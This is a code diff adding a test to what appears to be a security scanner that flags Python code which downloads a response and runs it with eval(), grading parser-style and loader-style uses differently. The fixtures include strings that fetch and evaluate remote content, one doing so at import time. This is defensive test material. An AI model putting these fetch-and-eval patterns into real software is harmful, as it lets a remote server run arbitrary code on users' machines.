@@ -20,6 +20,26 @@ def test_exec_of_fetched_code_is_critical_anywhere() -> None:
     assert findings[0].severity is Severity.CRITICAL
 
 
+def test_eval_parsing_a_downloaded_response_is_medium_but_eval_as_a_statement_is_not() -> None:
+    """akshare reads JavaScript-style responses with eval() and indexes the value: a parser
+    (dangerous if the server turns hostile), not a loader; an eval whose value nobody uses is
+    run for its effects."""
+    parser = (
+        "import requests\n"
+        "def quotes(symbol):\n"
+        "    r = requests.get('https://quotes.example/list', params={'s': symbol})\n"
+        "    return eval(r.text.split('=')[1].split('\\n')[0])['data']\n"
+    )
+    findings = run(RULES, py(parser, path="acme/stock.py", stage=Stage.RUNTIME))
+    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.MEDIUM)]
+    loader = parser.replace("    return eval(", "    eval(").replace(")['data']", ")")
+    findings = run(RULES, py(loader, path="acme/stock.py", stage=Stage.RUNTIME))
+    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.CRITICAL)]
+    on_import = "import requests\nDATA = eval(requests.get('https://x.invalid/d').text)['data']\n"
+    findings = run(RULES, py(on_import, path="acme/__init__.py"))
+    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.CRITICAL)]
+
+
 def test_fetch_write_chmod_run_at_import_is_critical() -> None:
     source = (
         "import os, requests\n"
